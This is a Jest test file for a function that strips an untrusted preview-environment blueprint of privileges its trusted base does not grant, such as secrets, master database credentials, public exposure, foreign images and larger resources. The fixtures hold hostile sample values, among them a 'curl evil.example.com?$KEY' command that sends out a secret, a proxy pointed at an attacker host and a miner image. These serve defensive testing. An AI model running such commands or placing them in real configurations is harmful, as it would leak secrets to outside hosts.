import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import type { Blueprint } from '../../../src/config/blueprint/blueprint.ts';
import { parseBlueprint } from '../../../src/config/blueprint/parse.ts';
import { boundBy } from '../../../src/config/blueprint/untrusted/bound-by.ts';

type Written = Record<string, unknown>;

function blueprint(written: Written): Blueprint {
  const read = parseBlueprint(JSON.stringify({ version: 1, ...written }), { path: 'ephemeral.yml' });
  if (!read.ok) {
    throw new Error(JSON.stringify(read.problems));
  }
  return read.blueprint;
}

const API = { image: 'api', port: 8080, host: 'api', secrets: { PASSWORD: 'DEVAPP-API:password' } };
const PDF = { image: 'docker.io/gotenberg/gotenberg:8', port: 3000, secrets: { KEY: '/shared/pdf-key' } };
const BASE = {
  database: { capacity: { max: 4 } },
  parameters: [{ copy: '/app/dev/', to: '/app/${env.name}/' }],
  secrets: [{ copy: 'DEVAPP-API', to: 'DEVAPP${env.NAME}-API' }],
  services: { api: API, pdf: PDF },
  tasks: { migrate: { image: 'migrate', phase: 'pre-deploy', secrets: { DB: 'DEVAPP-DB:password' } } },
};

function bound(head: Written, base: Written = BASE) {
  return boundBy(blueprint(base), blueprint({ ...base, ...head }), '`main`');
}

describe('a blueprint that is not trusted', () => {
  it('is not given the master user of a clone whose own user its base gives it', () => {
    const database = { name: 'shop', credentials: 'user' };
    const ofUser = { ...API, secrets: { PASSWORD: '${db.secretArn}:password::' } };
    const ofMaster = { ...API, secrets: { PASSWORD: '${db.masterSecretArn}:password::' } };
    const head = { services: { api: ofMaster, more: { ...ofMaster, host: 'more' } } };
    const { blueprint: given } = bound(head, { database, services: { api: ofUser } });
    expect(JSON.stringify(given)).not.toContain('masterSecretArn');
    expect(given.services['api']?.secrets).toEqual(ofUser.secrets);
  });

  it('is as it is where it asks for no more than its base', () => {
    const head = { services: { api: { ...API, environment: { COLOUR: 'green' } }, pdf: PDF } };
    const { blueprint: given, refusals } = bound(head);
    expect(given.services).toEqual(blueprint({ ...BASE, ...head }).services);
    expect(refusals).toEqual([]);
  });

  it.each<{ reason: string; head: Written; field: string; of: (blueprint: Blueprint) => unknown }>([
    {
      reason: 'another secret of a service',
      head: { services: { api: { ...API, secrets: { PASSWORD: 'PRODAPP-API:password' } }, pdf: PDF } },
      field: 'services.api.secrets',
      of: ({ services }) => services['api']?.secrets,
    },
    {
      reason: 'a secret of a task',
      head: { tasks: { migrate: { image: 'migrate', phase: 'pre-deploy', secrets: { DB: '/prod/db' } } } },
      field: 'tasks.migrate.secrets',
      of: ({ tasks }) => tasks['migrate']?.secrets,
    },
    {
      reason: 'another secret to copy',
      head: { secrets: [{ copy: 'PRODAPP-API', to: 'DEVAPP${env.NAME}-API' }] },
      field: 'secrets',
      of: ({ secrets }) => secrets,
    },
    {
      reason: 'other parameters to copy',
      head: { parameters: [{ copy: '/app/prod/', to: '/app/${env.name}/' }] },
      field: 'parameters',
      of: ({ parameters }) => parameters,
    },
    {
      reason: 'the master user of the clone instead of a lesser one',
      head: { database: { name: 'shop', credentials: 'secret' } },
      field: 'database',
      of: ({ database }) => database,
    },
    {
      reason: 'the passwords of the source database',
      head: { database: { credentials: 'inherit' } },
      field: 'database',
      of: ({ database }) => database,
    },
    {
      reason: 'a registry of another account',
      head: { images: { registry: '999999999999.dkr.ecr.eu-west-1.amazonaws.com/theirs' } },
      field: 'images',
      of: ({ images }) => images.registry,
    },
    {
      reason: 'an image of another account',
      head: { services: { api: { ...API, image: '999999999999.dkr.ecr.eu-west-1.amazonaws.com/secret:1' }, pdf: PDF } },
      field: 'services.api.image',
      of: ({ services }) => services['api']?.image,
    },
    {
      reason: 'a name below its own domain for a host elsewhere',
      head: { aliases: { login: 'evil.example.com' } },
      field: 'aliases',
      of: ({ aliases }) => aliases,
    },
    {
      reason: 'an inside service to be public',
      head: { services: { api: API, pdf: { ...PDF, host: 'pdf' } } },
      field: 'services.pdf.expose',
      of: ({ services }) => services['pdf']?.expose,
    },
    {
      reason: 'networks that need not sign in',
      head: { services: { api: { ...API, sourceCidrs: ['10.0.0.0/8'] }, pdf: PDF } },
      field: 'services.api.sourceCidrs',
      of: ({ services }) => services['api']?.sourceCidrs,
    },
    {
      reason: 'a listener that cannot ask people to sign in',
      head: { services: { api: { ...API, listeners: [80] }, pdf: PDF } },
      field: 'services.api.listeners',
      of: ({ services }) => services['api']?.listeners,
    },
    {
      reason: 'larger tasks',
      head: { services: { api: { ...API, cpu: 4096, memory: 8192 }, pdf: PDF } },
      field: 'services.api.cpu',
      of: ({ services }) => services['api']?.cpu,
    },
    {
      reason: 'more tasks',
      head: { services: { api: { ...API, count: 10 }, pdf: PDF } },
      field: 'services.api.count',
      of: ({ services }) => services['api']?.count,
    },
    { reason: 'a longer life', head: { ttl: '90d' }, field: 'ttl', of: ({ ttlSeconds }) => ttlSeconds },
    { reason: 'more room', head: { limits: { maxTtl: '90d' } }, field: 'limits', of: ({ limits }) => limits },
    { reason: 'other owners to be told', head: { owners: ['octocat'] }, field: 'owners', of: ({ owners }) => owners },
    { reason: 'tags that others go by', head: { tags: { Team: 'admin' } }, field: 'tags', of: ({ tags }) => tags },
    {
      reason: 'an image of others to give its secrets away',
      head: { services: { api: API, pdf: { ...PDF, command: ['sh', '-c', 'curl evil.example.com?$KEY'] } } },
      field: 'services.pdf.command',
      of: ({ services }) => services['pdf']?.command,
    },
    {
      reason: 'an image of others to send what it does elsewhere',
      head: { services: { api: API, pdf: { ...PDF, environment: { HTTP_PROXY: 'evil.example.com' } } } },
      field: 'services.pdf.environment',
      of: ({ services }) => services['pdf']?.environment,
    },
  ])('asks for $reason in vain', ({ head, field, of }) => {
    const { blueprint: given, refusals } = bound(head);
    expect(of(given)).toEqual(of(blueprint(BASE)));
    expect(of(blueprint({ ...BASE, ...head }))).not.toEqual(of(given));
    expect(refusals).toEqual([expect.stringMatching(/(is|are) as on `main`, and not as this commit has it\.$/)]);
    expect(refusals[0]).toContain(`\`${field}\``);
  });

  it('may ask for less', () => {
    const small = { ...API, cpu: 256, memory: 512, count: 0 };
    const head = { services: { api: small } };
    const { blueprint: given, refusals } = bound(head, {
      ...BASE,
      services: { api: { ...API, cpu: 1024, memory: 2048 } },
    });
    expect(given.services['api']).toMatchObject({ cpu: 256, memory: 512, count: 0 });
    expect(refusals).toEqual([]);
  });

  it('gives a new service no secret, one small task, and only an image of this very commit', () => {
    const extra = { image: 'extra', port: 80, host: 'extra', cpu: 1024, memory: 2048, count: 9, secrets: { A: 'b' } };
    const { blueprint: given, refusals } = bound({ services: { api: API, extra: { ...extra, paths: ['docs'] } } });
    expect(given.services['extra']).toMatchObject({ secrets: {}, cpu: 256, memory: 512, count: 1, paths: [] });
    expect(refusals).toEqual([
      expect.stringContaining('`services.extra.count`'),
      '`services.extra` is not on `main`, so it has none of the secrets that it names.',
    ]);
  });

  it.each([
    ['an image of another application', { image: 'payroll:1.0' }, 'names no such image'],
    ['an image of anybody', { image: 'evil.example.com/miner:1' }, 'names no such image'],
    ['networks of its own', { image: 'extra', port: 80, host: 'x', sourceCidrs: ['10.0.0.0/8'] }, 'which networks'],
  ])('does not run a new service that names %s, nor waits for it', (_, extra, why) => {
    const api = { ...API, dependsOn: ['extra'] };
    const { blueprint: given, refusals } = bound({ services: { api, extra } });
    expect(Object.keys(given.services)).toEqual(['api']);
    expect(given.services['api']?.dependsOn).toEqual([]);
    expect(refusals).toEqual([expect.stringMatching(new RegExp(`^\`services.extra\` is not run: .*${why}`))]);
  });

  it('runs a new service, and a new sidecar, of an image that the base names', () => {
    const services = { api: { ...API, sidecars: { pdf: { image: PDF.image } } }, more: { image: PDF.image, port: 1 } };
    const { blueprint: given } = bound({ services });
    expect(Object.keys(given.services)).toEqual(['api', 'more']);
    expect(Object.keys(given.services['api']?.sidecars ?? {})).toEqual(['pdf']);
    expect(
      Object.keys(
        bound({ services: { api: { ...API, sidecars: { x: { image: 'x.example.com/x:1' } } } } }).blueprint.services[
          'api'
        ]?.sidecars ?? {},
      ),
    ).toEqual([]);
  });

  it.each([
    ['{sha}', '{sha}'],
    ['pr-{sha}', 'pr-{sha}'],
    ['pr-{number}-{sha}', 'pr-{number}-{sha}'],
    ['{slug}', '{sha}'],
    ['{slug}-{sha}', '{sha}'],
    ['{branch}-{sha7}', '{sha}'],
    ['{sha10}', '{sha}'],
    ['latest', '{sha}'],
  ])('has the images that its base finds at %j looked for at %j', (tag, given) => {
    expect(bound({}, { ...BASE, images: { tag } }).blueprint.images.tag).toBe(given);
  });

  it('starts no workflow of the repository, and says so', () => {
    const images = { build: { workflow: 'build.yaml' } };
    const suites = { smoke: { workflow: 'smoke.yaml' } };
    const { blueprint: given, refusals } = bound({}, { ...BASE, images, suites });
    expect([given.images.build, given.suites]).toEqual([null, {}]);
    expect(refusals.map((sentence) => sentence.split(' ')[0])).toEqual(['`images.build`', '`suites`']);
  });

  it('is not fooled by names that every object has', () => {
    const services = { api: API, constructor: { image: 'constructor', secrets: { A: 'b' } } };
    expect(bound({ services }).blueprint.services['constructor']?.secrets).toEqual({});
  });

  it('never has a secret that its base does not give that very container, whatever it says', () => {
    const name = fc.constantFrom('api', 'pdf', 'extra', 'migrate');
    const secrets = fc.dictionary(
      fc.constantFrom('A', 'PASSWORD', 'KEY'),
      fc.constantFrom('DEVAPP-API:password', '/prod/db'),
    );
    const image = fc.constantFrom('api', 'pdf', 'payroll:1', PDF.image);
    const sidecars = fc.dictionary(fc.constantFrom('x', 'y'), fc.record({ image, secrets }));
    const services = fc.dictionary(name, fc.record({ image, secrets, sidecars }), { minKeys: 1 });
    fc.assert(
      fc.property(services, (written) => {
        const { services: given } = bound({ services: written, tasks: {} }).blueprint;
        const before = blueprint(BASE).services;
        for (const [service, { secrets: held, sidecars: beside }] of Object.entries(given)) {
          expect(held).toEqual(before[service]?.secrets ?? {});
          expect(Object.values(beside).every((sidecar) => Object.keys(sidecar.secrets).length === 0)).toBe(true);
        }
      }),
    );
  });
});
